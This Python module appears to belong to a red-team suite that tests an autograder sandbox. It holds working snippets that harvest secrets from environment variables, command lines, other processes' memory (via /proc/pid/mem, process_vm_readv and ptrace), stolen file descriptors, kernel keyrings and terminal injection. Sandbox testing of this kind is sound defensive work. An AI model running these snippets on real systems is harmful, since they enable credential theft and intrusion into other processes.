"""Attacks on secrets that are no files: environment, arguments, memory, descriptors."""

# ruff: noqa: E501 - hostile source stands as it is handed in

from __future__ import annotations

from redteam.attack import family

from .files import SIFT, TELL

WHO = (
    SIFT
    + """
PIDS = [os.getpid(), os.getppid(), @WARM@, @GRADER@, @VICTIM@]
try: PRIVATE = os.readlink("/proc/self/ns/pid") != @PIDNS@
except OSError: PRIVATE = False
if PRIVATE:  # all that is there is the kit's, and nobody else's
    PIDS.extend(p for p in range(1, 40) if p != os.getpid())
"""
)

environment = family("environment and arguments")
for _name, _code in {
    "os.environ": "for _k, _v in os.environ.items(): _sift(_k + _v)",
    "its first state": "_read('/proc/self/environ')",
    "by libc": """
import ctypes
_libc = ctypes.CDLL(None)
_libc.getenv.restype = ctypes.c_char_p
for _n in (b"COURSE_SECRET", b"AUTOGRADER_SECRET", b"API_KEY"): _sift(_libc.getenv(_n) or b"")
_environ = ctypes.POINTER(ctypes.c_char_p).in_dll(_libc, "environ")
for _i in range(500):
    if _environ[_i] is None: break
    _sift(_environ[_i])
""",
    "of everybody": """
for _p in PIDS:
    for _n in ("environ", "cmdline", "comm", "stat"): _read(f"/proc/{_p}/{_n}")
""",
    "of a program it starts": """
import subprocess
try: _sift(subprocess.run(["/usr/bin/env"], capture_output=True, timeout=2).stdout)
except Exception: pass
""",
    "arguments": """
_sift(" ".join([*sys.argv, *sys.orig_argv]))
_read("/proc/self/cmdline"); _read(f"/proc/{os.getppid()}/cmdline")
""",
}.items():
    environment.add(_name, WHO + _code, TELL)

memory = family("memory of others")
for _name, _code in {
    "/proc/pid/mem": """
for _pid in PIDS[1:]:
    try:
        _maps = open(f"/proc/{_pid}/maps").read().splitlines()
        _mem = open(f"/proc/{_pid}/mem", "rb", 0)
    except OSError: continue
    _left = 300 << 20
    for _line in _maps:
        _range, _mode = _line.split()[:2]
        _start, _end = (int(x, 16) for x in _range.split("-"))
        if not _mode.startswith("rw") or _end - _start > _left: continue
        _left -= _end - _start
        try: _mem.seek(_start); _sift(_mem.read(_end - _start))
        except (OSError, OverflowError): pass
""",
    "process_vm_readv": """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
class _Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
for _pid in PIDS[1:]:
    try: _maps = open(f"/proc/{_pid}/maps").read().splitlines()
    except OSError: _maps = open("/proc/self/maps").read().splitlines() if os.path.exists("/proc/self/maps") else []
    _buffer = ctypes.create_string_buffer(1 << 20)
    _here = _Vec(ctypes.addressof(_buffer), len(_buffer))
    _left = 200
    for _line in _maps:
        _start, _end = (int(x, 16) for x in _line.split()[0].split("-"))
        if "rw" not in _line.split()[1]: continue
        while _start < _end and _left:
            _left -= 1
            _there = _Vec(_start, min(1 << 20, _end - _start))
            _n = _libc.process_vm_readv(_pid, ctypes.byref(_here), 1, ctypes.byref(_there), 1, 0)
            if _n > 0: _sift(_buffer.raw[:_n])
            _start += 1 << 20
""",
    "ptrace": """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
for _pid in PIDS[1:2]:
    if _libc.ptrace(16902, _pid, 0, 0) == 0:
        print("BREACH ptrace of", _pid)
        _libc.ptrace(17, _pid, 0, 0)
""",
    "a descriptor taken from the keeper": """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
for _pid in PIDS[1:]:
    _p = _libc.syscall(434, _pid, 0)
    if _p < 0: continue
    for _n in range(3, 12):
        _fd = _libc.syscall(438, _p, _n, 0)
        if _fd >= 0:
            print("BREACH descriptor", _n, "of", _pid)
            os.close(_fd)
""",
    "files that others hold open": """
for _pid in PIDS[1:]:
    try: _names = os.listdir(f"/proc/{_pid}/fd")
    except OSError: continue
    for _n in _names:
        try: _target = os.readlink(f"/proc/{_pid}/fd/{_n}")
        except OSError: continue
        print("BREACH descriptor", _n, "of", _pid, _target)
        if _target.startswith("/") and not _target.startswith("/dev"): _read(f"/proc/{_pid}/fd/{_n}")
""",
    "stack, wchan and maps": """
for _pid in PIDS[1:]:
    for _n in ("stack", "syscall", "maps", "auxv", "personality", "mountinfo", "timerslack_ns"):
        _read(f"/proc/{_pid}/{_n}")
""",
    "the memory of the machine": """
for _f in ("/dev/mem", "/dev/kmem", "/proc/kcore"):
    try: os.close(os.open(_f, os.O_RDONLY)); print("BREACH", _f)
    except OSError: pass
""",
}.items():
    memory.add(_name, WHO + _code, TELL, alone=True)

inherited = family("what is inherited")
for _name, _code in {
    "descriptors": """
for _fd in range(0, 1024):
    try:
        os.fstat(_fd)
        _target = os.readlink(f"/proc/self/fd/{_fd}")
        if _fd > 3 and "socket" in _target: print("BREACH descriptor", _fd, _target)
        if _target.startswith("/"): _read(f"/proc/self/fd/{_fd}")
    except OSError: pass
""",
    "its own heap": """
try:
    for _line in open("/proc/self/maps").read().splitlines():
        _start, _end = (int(x, 16) for x in _line.split()[0].split("-"))
        if "rw-p" in _line and _end - _start < 64 << 20:
            with open("/proc/self/mem", "rb", 0) as _mem:
                try: _mem.seek(_start); _sift(_mem.read(_end - _start))
                except (OSError, OverflowError): pass
except OSError: pass
""",
    "every string that Python knows": """
import gc
for _each in gc.get_objects():
    if isinstance(_each, dict):
        for _v in list(_each.values()):
            if isinstance(_v, (str, bytes)) and len(_v) < 10_000: _sift(_v)
""",
    "every module that is loaded": """
for _module in list(sys.modules.values()):
    _file = getattr(_module, "__file__", None) or ""
    if "autograder/" in _file and "autograder-" not in _file: print("BREACH", _file)
print("BREACH the kit is imported") if sys.modules.get("autograder") else None
""",
    "descriptors sent to it": """
import socket
try:
    _talk = socket.socket(fileno=os.dup(3)); _talk.settimeout(0.2)
    _data, _fds, _, _ = socket.recv_fds(_talk, 100, 10)
    _sift(_data)
    for _fd in _fds: _read(f"/proc/self/fd/{_fd}")
except OSError: pass
""",
    "keyrings": """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
for _ring in range(-8, 0):
    _buffer = ctypes.create_string_buffer(4096)
    if _libc.syscall(250, 11, _ring, _buffer, 4096) > 0: _sift(_buffer.raw)
""",
    "the terminal": """
import fcntl, termios
for _fd in (0, 1, 2):
    try: fcntl.ioctl(_fd, termios.TIOCSTI, b"!"); print("BREACH terminal")
    except OSError: pass
try: os.open("/dev/tty", os.O_RDWR); print("BREACH terminal")
except OSError: pass
_sift(sys.stdin.read(100) if sys.stdin else "")
""",
    "the heap of another worker": """
try:
    with open(f"/proc/{@VICTIM@}/mem", "rb", 0) as _mem, open(f"/proc/{@VICTIM@}/maps") as _maps:
        for _line in _maps.read().splitlines():
            _start, _end = (int(x, 16) for x in _line.split()[0].split("-"))
            if "rw-p" in _line and _end - _start < 64 << 20:
                try: _mem.seek(_start); _sift(_mem.read(_end - _start))
                except (OSError, OverflowError): pass
except OSError: pass
""",
}.items():
    inherited.add(_name, WHO + _code, TELL)
